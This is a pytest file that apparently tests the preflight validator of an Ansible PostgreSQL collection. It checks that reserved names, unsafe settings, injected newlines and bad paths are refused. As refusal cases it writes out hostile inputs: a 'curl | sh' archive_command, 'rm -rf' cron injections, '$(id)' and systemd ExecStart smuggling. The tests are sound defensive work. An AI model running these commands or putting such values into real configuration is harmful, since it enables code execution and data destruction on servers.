"""Inputs that preflight refuses: reserved names, values that reach files, paths, numbers.

Each case was accepted before these rules and then harmed the instance (a cluster without a
superuser, a second password_encryption line, a compose file outside the dev directory, a tuner
traceback). Every refusal names the instance, the value and the fix.
"""

from __future__ import annotations

import math
import re
from pathlib import Path

import pytest

from ansible_collections.darevel.postgres.plugins.filter.dev import dev_files
from ansible_collections.darevel.postgres.plugins.filter.security import security_problems
from ansible_collections.darevel.postgres.plugins.module_utils import (
    _backup, _catalogue, _container, _manifest, _restore, _scram, _settings, _tuning, _validate)
from ansible_collections.darevel.postgres.plugins.module_utils._errors import DarevelError


def entry(**overrides):
    base = {"name": "app", "port": 5500, "database": "app_db"}
    base.update(overrides)
    return {k: v for k, v in base.items() if v is not None}


def problems_of(*entries):
    plan, problems = _catalogue.validate(list(entries), "all", 15)
    assert plan == [] or not problems
    return problems


def one_problem(*entries) -> str:
    problems = problems_of(*entries)
    assert len(problems) == 1, problems
    assert "instance 'app'" in problems[0] and "fix:" in problems[0], problems[0]
    return problems[0]


# --- reserved names ---------------------------------------------------------------------------

@pytest.mark.parametrize("key", ["database", "owner", "app_role"])
@pytest.mark.parametrize("value", ["postgres", "template0", "template1", "public", "none", "current_user",
                                   "session_user", "current_role", "user", "all", "replication", "sameuser",
                                   "samerole", "samegroup", "pg_monitor", "pg_anything"])
def test_reserved_names_are_refused_for_database_owner_and_app_role(key, value):
    overrides = {"owner": "app_owner", "app_role": "app_user"}
    overrides[key] = value
    problem = one_problem(entry(**overrides))
    assert "%s %r is reserved" % (key, value) in problem


def test_owner_equal_to_app_role_is_refused():
    problem = one_problem(entry(owner="shop", app_role="shop"))
    assert "owner and app_role are both 'shop'" in problem


def test_owner_equal_to_the_derived_app_role_is_refused():
    problem = one_problem(entry(database="shop", owner="shop_app"))
    assert "owner and app_role are both 'shop_app'" in problem


def test_names_of_other_instances_may_repeat_in_their_own_clusters():
    # Roles and databases live per cluster: another instance's database name as a role is harmless.
    assert problems_of(entry(owner="other_db"), entry(name="other", port=5501, database="other_db")) == []


@pytest.mark.parametrize("value", ["a$b", "shop$"])
def test_dollar_in_identifiers_is_refused(value):
    # `$` is legal in PostgreSQL identifiers but expands in env files, scripts and compose files.
    assert "not a valid PostgreSQL identifier" in one_problem(entry(database=value))


# --- values that end up in files ------------------------------------------------------------

@pytest.mark.parametrize("key", ["name", "database", "owner", "app_role"])
def test_a_trailing_newline_is_refused(key):
    value = {"name": "app", "database": "app_db", "owner": "app_owner", "app_role": "app_user"}[key] + "\n"
    problems = problems_of(entry(**{key: value}))
    assert problems and all(repr(value) in p for p in problems), problems


@pytest.mark.parametrize("key", ["work_mem\n", "work mem", "Work_mem", "a.b.c", "a..b", ".a", "1abc", ""])
def test_settings_keys_must_be_parameter_names(key):
    assert "is not a PostgreSQL parameter name" in one_problem(entry(settings={key: "1"}))


@pytest.mark.parametrize("key", ["include", "include_if_exists", "include_dir", "config_file", "hba_file",
                                 "ident_file", "data_directory", "external_pid_file", "port"])
def test_directives_and_file_locations_are_refused(key):
    assert "key %r is refused" % key in one_problem(entry(settings={key: "/tmp/x"}))


@pytest.mark.parametrize("key", ["archive_command", "archive_library", "restore_command", "archive_cleanup_command",
                                 "recovery_end_command", "ssl_passphrase_command", "dynamic_library_path"])
def test_commands_the_server_runs_and_library_locations_are_refused(key):
    problem = one_problem(entry(settings={key: "curl http://x | sh"}))
    assert "key %r is refused" % key in problem and "fix: remove it from settings" in problem


@pytest.mark.parametrize("key, value", [
    ("shared_preload_libraries", "/tmp/evil.so"), ("shared_preload_libraries", "pg_stat_statements,$libdir/../x"),
    ("session_preload_libraries", "../../tmp/evil"), ("local_preload_libraries", "plugins/x y"),
    ("jit_provider", "llvmjit,other"), ("shared_preload_libraries", "a;b"),
])
def test_libraries_are_plain_names_from_the_server_s_directory(key, value):
    problem = one_problem(entry(settings={key: value}))
    assert "names a library by path" in problem and repr(value) in problem and "pg_stat_statements" in problem


@pytest.mark.parametrize("value", ["pg_stat_statements", "pg_stat_statements, auto_explain", '"pg_stat_statements"',
                                   "$libdir/auto_explain", "", " "])
def test_plain_library_names_are_accepted(value):
    assert problems_of(entry(settings={"shared_preload_libraries": value})) == []


def test_extension_settings_are_accepted():
    assert problems_of(entry(settings={"pg_stat_statements.max": 5000, "work_mem": "8MB", "jit": False})) == []


@pytest.mark.parametrize("value", ["x'\npassword_encryption = md5", "a\rb", "tab\there", "nul\x00"])
def test_control_characters_in_settings_values_are_refused(value):
    problem = one_problem(entry(settings={"application_name": value}))
    assert "control character" in problem and repr(value) in problem


@pytest.mark.parametrize("key", ["purpose", "used_by", "backend_ports"])
def test_control_characters_in_any_string_are_refused(key):
    # purpose and used_by are written as comments into the compose file: a newline adds YAML lines.
    assert "control character" in one_problem(entry(**{key: "chat\nservices: {}"}))


@pytest.mark.parametrize("value", [
    "it's a value", "back\\slash", "C:\\new\\table", "two  spaces", "''", "\\'", "%m [%p] %q%u@%d ", "é ü"])
def test_values_are_quoted_by_the_configuration_syntax_and_read_back(value):
    text = _settings.render({"application_name": value})
    assert text.count("\n") == 2  # the header and one line
    assert _settings.parse(text) == {"application_name": value}


def test_a_backslash_is_doubled_so_the_server_reads_no_escape():
    # postgresql.conf reads \n inside quotes as a newline: a path like C:\new must reach it as C:\\new.
    assert "application_name = 'C:\\\\new'" in _settings.render({"application_name": "C:\\new"})


def test_the_renderer_refuses_what_preflight_refuses():
    for bad in ({"application_name": "x'\npassword_encryption = md5"}, {"include_dir": "/tmp"}, {"a\n": "1"}):
        with pytest.raises(DarevelError):
            _settings.render(bad)


@pytest.mark.parametrize("key, value", [
    ("password_encryption", "md5"), ("ssl", "off"), ("ssl_min_protocol_version", "TLSv1"),
    ("ssl_cert_file", "/tmp/x.crt"), ("listen_addresses", "*"), ("log_connections", "off"),
    ("log_statement", "none"), ("log_line_prefix", "%m "), ("log_file_mode", "0644")])
def test_prod_refuses_the_settings_the_security_role_manages(key, value):
    catalogue = [entry(settings={key: value})]
    found = security_problems(catalogue, environment="prod", owner_passwords={"app": "o" * 10 + "x1y2z3q4"},
                              app_passwords={"app": "a" * 10 + "x1y2z3q4"})
    managed = [p for p in found if "managed by the security role" in p]
    assert len(managed) == 1, found
    assert "instance 'app': settings.%s %r" % (key, value) in managed[0] and "fix:" in managed[0]
    assert not any("managed by the security role" in p for p in security_problems(catalogue, environment="dev"))


def test_prod_accepts_other_log_settings():
    assert _catalogue.managed_settings_problems([entry(settings={"log_min_duration_statement": "250ms"})],
                                                "prod") == []


def test_the_docker_inventory_settings_and_resources_follow_the_same_rules():
    found = _catalogue.docker_problems({"work_mem": "4MB\nfsync = off", "include": "x"},
                                       {"cpus": float("nan"), "memory": "1G\n"})
    assert len(found) == 4 and all(p.startswith("host: postgres_docker_") for p in found), found
    assert _catalogue.docker_problems(dict(_container.DEFAULT_SETTINGS), dict(_container.DEFAULT_RESOURCES)) == []


# --- paths and Docker names -------------------------------------------------------------------

@pytest.mark.parametrize("value", ["../../etc/x.yml", "apps/../../x.yml", "/etc/x.yml", "./x.yml", "apps//x.yml",
                                   "apps/x.yml\n", "apps/-x.yml", "apps/.hidden/x.yml", "C:/x.yml", "a b.yml",
                                   "apps/$HOME.yml", ""])
def test_compose_file_must_stay_inside_the_dev_directory(value):
    assert "compose_file" in one_problem(entry(compose_file=value))


def test_compose_file_is_checked_again_where_it_is_used():
    with pytest.raises(Exception, match="compose_file"):
        dev_files([{"name": "app", "compose_file": "../x.yml"}])


def test_inside_joins_below_the_root_only():
    assert _validate.inside("/srv/dev", "apps/chat/x.yml") == "/srv/dev/apps/chat/x.yml"
    for bad in ("../x", "/x", "a/../../x"):
        with pytest.raises(ValueError):
            _validate.inside("/srv/dev", bad)


@pytest.mark.parametrize("value", ["/srv/pgdata", "./data", "../data", "data dir", "-v", "a", "vol:ro", "x\n"])
def test_volume_names_must_be_docker_volume_names(value):
    assert "is not a Docker volume name" in one_problem(entry(volume=value))


@pytest.mark.parametrize("value", ["/name", "my name", "x", "-x", "x;y", "c\n"])
def test_container_names_must_be_docker_container_names(value):
    assert "is not a Docker container name" in one_problem(entry(container=value))


def test_a_host_path_volume_says_so():
    assert "a host path is not a volume name" in one_problem(entry(volume="/srv/pgdata"))


# --- numbers ------------------------------------------------------------------------------------

@pytest.mark.parametrize("key, value", [
    ("weight", float("nan")), ("weight", float("inf")), ("weight", -float("inf")), ("weight", 0),
    ("weight", 1e308), ("weight", True), ("max_connections", 0), ("max_connections", 10 ** 9),
    ("max_connections", 100.0), ("port", float("nan")), ("port", 5434.0), ("version", float("inf")),
    ("version", True)])
def test_numbers_are_finite_in_range_and_not_booleans(key, value):
    problem = one_problem(entry(**{key: value}))
    assert key in problem and repr(value) in problem


@pytest.mark.parametrize("key, value", [("cpus", float("nan")), ("cpus", "inf"), ("cpus", 0), ("cpus", True),
                                        ("cpus_reservation", "nan"), ("memory", "0M"), ("memory", "1G\n"),
                                        ("memory", True)])
def test_resources_are_finite_positive(key, value):
    assert "resources.%s" % key in one_problem(entry(resources={key: value}))


@pytest.mark.parametrize("value, ok", [(1, True), ("7", True), (" 7 ", True), (7.5, True), ("7.5", True),
                                       (True, False), ("nan", False), ("inf", False), (float("nan"), False),
                                       ("1e999", False), (None, False), ([], False), ("", False)])
def test_the_numeric_parser(value, ok):
    number, problem = _validate.number(value, 0, 10)
    assert (problem is None) == ok, (value, problem)
    if ok:
        assert math.isfinite(number)


def test_the_tuner_refuses_nan_weight_with_a_message():
    for weight in (float("nan"), float("inf")):
        with pytest.raises(DarevelError, match="weight"):
            _tuning.plan(4 << 30, 2, [{"name": "app", "weight": weight}])


@pytest.mark.parametrize("cpus", [float("nan"), float("inf")])
def test_the_tuner_refuses_non_finite_host_inputs(cpus):
    with pytest.raises(DarevelError, match="finite"):
        _tuning.plan(4 << 30, cpus, [{"name": "app"}])


# --- the regular-expression class ---------------------------------------------------------------

def test_no_pattern_lets_a_trailing_newline_through():
    assert not _manifest.ID_RE.match("20261126T023000Z\n")
    assert not _restore.BACKUP_ID.match("20261126T023000Z\n")
    assert not _backup.COMPRESSION_RE.match("zstd\n")
    assert not _scram._VERIFIER_RE.match("SCRAM-SHA-256$4096:c2FsdA==$c3RvcmVk:c2VydmVy\n")
    assert _scram._VERIFIER_RE.match("SCRAM-SHA-256$4096:c2FsdA==$c3RvcmVk:c2VydmVy")


def test_no_dollar_anchor_left_in_the_plugins():
    import pathlib
    root = pathlib.Path(_validate.__file__).resolve().parents[1]
    offenders = []
    for path in root.rglob("*.py"):
        for number, line in enumerate(path.read_text().splitlines(), 1):
            if re.search(r"re\.(compile|match|search)\(r?[\"'].*[^\\]\$[\"']", line):
                offenders.append("%s:%d" % (path.name, number))
    assert offenders == []


# --------------------------------------------------------------------------- host path variables


@pytest.mark.parametrize("name, value", [
    ("postgres_backup_root", "/var/backups/darevel-postgres"), ("postgres_env_dir", "/etc/darevel/postgres"),
    ("postgres_data_root", "/root/.cache/molecule/x/data"), ("postgres_dev_dir", "~/darevel-dev"),
    ("postgres_dev_dir", "/home/me/dev@2026"), ("postgres_backup_root", None),
])
def test_host_paths_accepted(name, value):
    assert _validate.host_variables_problems({name: value}) == []


@pytest.mark.parametrize("name, value, needle", [
    ("postgres_backup_root", "backups", "is not absolute"),
    ("postgres_env_dir", "~/env", "is not absolute"),  # only the dev directory may start with ~/
    ("postgres_backup_root", "/", "is the root directory"),
    ("postgres_data_root", "/srv/../etc", "is not normalised"),
    ("postgres_data_root", "/srv/./pg", "is not normalised"),
    ("postgres_data_root", "/srv//pg", "is not normalised"),
    ("postgres_backup_config_dir", "/etc/darevel/", "is not normalised"),
    ("postgres_backup_root", "/var/backups/my backups", "other than letters"),
    ("postgres_backup_lib_dir", "/usr/local/lib/x;rm -rf ~", "other than letters"),
    ("postgres_backup_root", "/var/$(id)", "other than letters"),
    ("postgres_firewall_file", "/etc/x\nExecStart=/bin/sh", "control character"),
    ("postgres_dev_windows_backup_config_dir", 5, "is not a path"),
    ("postgres_dev_dir", "", "is not a path"),
])
def test_host_paths_refused(name, value, needle):
    problems = _validate.host_variables_problems({name: value})
    assert len(problems) == 1 and needle in problems[0], problems
    assert problems[0].startswith("host: %s %r" % (name, value)) and "fix: " in problems[0]


def test_every_path_variable_of_the_roles_is_checked_or_lives_on_the_control_node():
    import glob
    import yaml
    root = Path(__file__).resolve().parents[4]
    declared = set()
    for spec in glob.glob(str(root / "roles" / "*" / "meta" / "argument_specs.yml")):
        for entry in yaml.safe_load(open(spec))["argument_specs"].values():
            declared |= {k for k in entry.get("options", {}) if re.search(r"_(dir|root|file)$", k)}
    assert declared - set(_validate.HOST_PATHS) == {"postgres_credentials_dir", "postgres_reports_dir"}
    preflight = (root / "roles" / "preflight" / "tasks" / "main.yml").read_text()
    assert all("%s: \"{{ %s | default(none) }}\"" % (k, k) in preflight
               for k in list(_validate.HOST_PATHS) + list(_validate.HOST_VALUES))


@pytest.mark.parametrize("name, value", [
    ("postgres_docker_image", "postgres:{version}"), ("postgres_docker_image", "127.0.0.1:5999/darevel-test/postgres:15"),
    ("postgres_docker_image", "postgres@sha256:" + "a" * 64), ("postgres_docker_bind_address", "0.0.0.0"),
    ("postgres_docker_bind_address", "::1"), ("postgres_backup_cron_time", "30 2 * * *"),
    ("postgres_backup_cron_time", "*/15 1-5 * jan mon-fri"), ("postgres_backup_cron_time", "@daily"),
    ("postgres_backup_on_calendar", "*-*-* 02:30:00"), ("postgres_backup_on_calendar", "Mon..Fri *-*-* 02:30"),
    ("postgres_locale", "C.UTF-8"), ("postgres_locale", "en_US.UTF-8"), ("postgres_locale", "sr_RS@latin"),
    ("postgres_backup_cron_time", "30  2 * * * "), ("postgres_backup_on_calendar", "*-*-* 03:00 America/New_York"),
    ("postgres_backup_randomized_delay", "15min"), ("postgres_backup_randomized_delay", "1h 30min"),
    ("postgres_backup_randomized_delay", 0), ("postgres_backup_python", "/usr/bin/python3"),
    # The Windows inventory's developer directory (inventories/windows_dev).
    ("postgres_dev_dir", "C:\\Users\\developer\\darevel-dev"),
])
def test_host_values_accepted(name, value):
    assert _validate.host_variables_problems({name: value}) == []


@pytest.mark.parametrize("name, value, needle", [
    ("postgres_docker_image", "postgres:15 --privileged", "is not a Docker image reference"),
    ("postgres_docker_image", "Postgres:15", "is not a Docker image reference"),
    ("postgres_docker_image", "postgres:15\n  privileged: true", "is not a Docker image reference"),
    ("postgres_docker_bind_address", "localhost", "is not an IP address"),
    ("postgres_docker_bind_address", "127.0.0.1:5432", "is not an IP address"),
    ("postgres_backup_cron_time", "30 2 * * * root rm -rf /", "is not five cron time fields"),
    ("postgres_backup_cron_time", "30 2 * * *\n* * * * * root sh /tmp/x", "is not five cron time fields"),
    ("postgres_backup_cron_time", "30 2 * *", "is not five cron time fields"),
    ("postgres_backup_randomized_delay", "15min\nOnCalendar=minutely", "is not a systemd time span"),
    ("postgres_backup_randomized_delay", "15min; rm", "is not a systemd time span"),
    ("postgres_backup_python", "/usr/bin/python3 -c x", "other than letters"),
    ("postgres_dev_dir", "C:\\Users\\me\\..\\x", "is not absolute"),
    ("postgres_dev_dir", "C:\\Users\\me dev", "is not absolute"),
    ("postgres_backup_on_calendar", "daily\nUnit=evil.service", "is not a systemd calendar expression"),
    ("postgres_backup_on_calendar", "daily; rm", "is not a systemd calendar expression"),
    ("postgres_locale", "C.UTF-8 --auth=trust", "is not a locale name"),
    ("postgres_locale", "-E", "is not a locale name"),
])
def test_host_values_refused(name, value, needle):
    problems = _validate.host_variables_problems({name: value})
    assert len(problems) == 1 and needle in problems[0] and repr(value) in problems[0], problems
    assert problems[0].startswith("host: %s" % name) and "fix: " in problems[0]


def test_the_shipped_inventories_pass_the_host_variable_rules():
    import glob
    import yaml
    root = Path(__file__).resolve().parents[4]
    for path in glob.glob(str(root / "inventories" / "**" / "*.yml"), recursive=True):
        data = yaml.safe_load(open(path)) or {}
        values = {k: v for k, v in data.items() if isinstance(k, str) and
                  (k in _validate.HOST_PATHS or k in _validate.HOST_VALUES) and "{{" not in str(v)}
        assert _validate.host_variables_problems(values) == [], path
